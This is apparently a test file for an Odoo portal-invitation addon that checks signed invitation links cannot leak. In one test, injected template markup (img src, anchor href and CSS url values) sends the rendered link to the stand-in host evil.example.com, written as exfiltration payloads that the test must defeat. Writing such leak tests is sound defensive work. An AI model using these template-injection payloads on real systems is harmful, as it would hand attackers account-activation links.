"""No method that a template, a server action or a client can call reveals a link, regardless of its arguments."""

import inspect
import re
from unittest.mock import patch

from odoo.tests import new_test_user, tagged
from odoo.tools import mute_logger

from ..models.portal_invitation_link import CHOOSE_PASSWORD, DECLINE, SAMPLE_PATHS, sign_link
from ..models.portal_join_mail import SAMPLE_PATH
from .common import PortalInvitationCommon
from .join_common import GuestOrderCommon
from .public_methods import PublicMethodsCase

EVIL = "me@evil.example.com"


@tagged("post_install", "-at_install", "once")
class TestLinkSecrets(PublicMethodsCase, PortalInvitationCommon, GuestOrderCommon):
    addon = "sale_auto_portal_user"

    def setUp(self):
        super().setUp()
        self.invited, self.invitation = self.invite(email="invited@example.com")
        self.send()
        self.waiting_join = self.waiting()
        base_url = self.invitation.get_base_url()
        self.body = " ".join(f'<a href="{base_url}{path}">x</a>' for path in (*SAMPLE_PATHS.values(), SAMPLE_PATH))
        self.signatures = [
            sign_link(self.invitation.sudo(), self.invitation.user_id.login, purpose, number)
            for purpose in (CHOOSE_PASSWORD, DECLINE)
            for number in range(self.invitation.link_number + 3)
        ]

    def test_a_template_can_not_leak_a_link_through_external_resources(self):
        template = self.env.ref("sale_auto_portal_user.mail_template_portal_invitation")
        url = "{{ object._get_portal_invitation_url() }}"
        for number, markup in enumerate(
            (
                f'<img t-attf-src="https://evil.example.com/p.png?{url}"/>',
                f'<img t-attf-src="https://evil.example.com/p.png?a {url}"/>',
                f'<img t-attf-src="https://evil.example.com/p.png?<a href=&quot;{url}&quot;"/>',
                f'<a t-attf-href="https://evil.example.com/?{url}">x</a>',
                f"""<p t-attf-style="background: url('https://evil.example.com/?{url}')">x</p>""",
            )
        ):
            with self.subTest(markup):
                body = template.body_html
                template.body_html = str(body) + markup
                _order, invitation = self.invite(email=f"victim{number}@example.com")
                mail = self.send()[f"victim{number}@example.com"]
                template.body_html = body
                (link,) = re.findall(r'href="https?://[^/"]+/my/invitation/\d+/(\w{20,})"', mail)
                self.assertEqual(mail.count(link), 1)
                self.assertNotIn(link, "".join(re.findall(r"evil\.example\.com[^<]*", mail)))

    def find_methods(self):
        """Return the methods that the addon adds to any model."""
        found = {}
        for model, model_class in self.env.registry.items():
            for cls in model_class.__mro__:
                for name, attribute in vars(cls).items():
                    if inspect.isfunction(attribute) and self.is_of_addon(attribute) and not name.startswith("__"):
                        found[model, name] = attribute
        return found

    def records_of(self, model, user):
        """Return the records to call a method on, in sudo mode, which is the most that a template's author can get."""
        join = self.waiting_join
        records = {
            "sale.portal.invitation": self.invitation,
            "sale.portal.join": join,
            "res.users": self.invitation.user_id,
            "res.partner": self.invitation.partner_id,
            "sale.order": self.invited,
            "res.company": self.company,
        }.get(model, self.env[model].browse())
        return records.with_user(user).sudo()

    def prepare_arguments(self, method, mail, record):
        """Yield arguments to call a method with: values by parameter name, and one value for all other parameters."""
        named = {
            "mail_sudo": mail,
            "template": self.env.ref("sale_auto_portal_user.mail_template_portal_invitation").sudo(),
            "body": self.body,
            "purpose": CHOOSE_PASSWORD,
            "number": self.invitation.link_number + 1,
            "user": self.owner,
            "order": self.waiting_join.order_id,
            "invitation": self.invitation,
            "join": self.waiting_join,
            "record": record,
        }
        parameters = list(inspect.signature(method).parameters.values())[1:]
        needed = [
            parameter.name
            for parameter in parameters
            if parameter.default is parameter.empty and parameter.kind == parameter.POSITIONAL_OR_KEYWORD
        ]
        if not needed:
            yield []
            return
        for value in (mail, self.body, record):
            yield [named.get(name, value) for name in needed]

    def leaks(self, answer, mail):
        """Return the links and parts of links found in a result or in mails to other recipients."""
        mails = self.env["mail.mail"].sudo().search([("email_to", "not in", ["invited@example.com", self.owner.login])])
        texts = [str(answer), *map(str, (mails | mail).mapped("body_html"))]
        found = [text for text in texts for signature in self.signatures if signature in text]
        for text in texts:
            for token in re.findall(r"[\w-]{60,}", text):
                if self.env["sale.portal.join"]._find_portal_join_by_token(token):
                    found.append(text)
        return found

    @mute_logger("odoo", "py.warnings")
    def call(self, record, name, arguments, mail):
        """Call a method, roll back its changes, and return the links that it revealed."""
        with self.mock_mail_gateway(), self.env.cr.savepoint() as savepoint:
            try:
                answer = getattr(record, name)(*arguments)
                answer = list(answer) if inspect.isgenerator(answer) else answer
                self.env.flush_all()
                leaks = self.leaks(answer, mail)
            except Exception:  # the method may raise any error
                leaks = []
            except AssertionError:  # raised by tests on commit
                leaks = []
            savepoint.rollback()
        self.env.invalidate_all()
        return leaks

    def call_everything(self):
        called = set()
        groups = "sales_team.group_sale_manager,mail.group_mail_template_editor"
        user = new_test_user(self.env, login="editor", email=EVIL, groups=groups)
        mail = self.env["mail.mail"].sudo().create({"email_to": EVIL, "body_html": self.body})
        self.env.flush_all()
        leaking = set()
        for (model, name), method in sorted(self.find_methods().items()):
            record = self.records_of(model, user)
            for arguments in self.prepare_arguments(method, mail, record):
                called.add((model, name))
                if self.call(record, name, arguments, mail):
                    leaking.add((model, name))
        return called, leaking

    def test_no_method_that_a_template_can_call_makes_a_link(self):
        called, leaking = self.call_everything()
        self.assertLessEqual(
            {
                ("sale.portal.invitation", "_prepare_recipient_mail_values"),
                ("sale.portal.invitation", "_render"),
                ("sale.portal.join", "_find_portal_join_by_token"),
                ("sale.portal.join", "_prepare_recipient_mail_values"),
                ("res.users", "_set_first_portal_password"),
            },
            called,
        )
        self.assertFalse(leaking)

    def test_a_method_that_makes_a_link_is_found(self):
        def tell(invitation, purpose):
            return sign_link(invitation.sudo(), invitation.sudo().user_id.login, purpose, 1)

        tell.__module__ = "odoo.addons.sale_auto_portal_user.models.portal_invitation"
        patcher = patch.object(self.registry["sale.portal.invitation"], "_tell", tell, create=True)
        patcher.start()
        self.addCleanup(patcher.stop)
        mail = self.env["mail.mail"].sudo().create({"email_to": EVIL, "body_html": self.body})
        method = self.find_methods()["sale.portal.invitation", "_tell"]
        arguments = list(self.prepare_arguments(method, mail, self.invitation))
        self.assertTrue(any(self.call(self.invitation, "_tell", values, mail) for values in arguments))
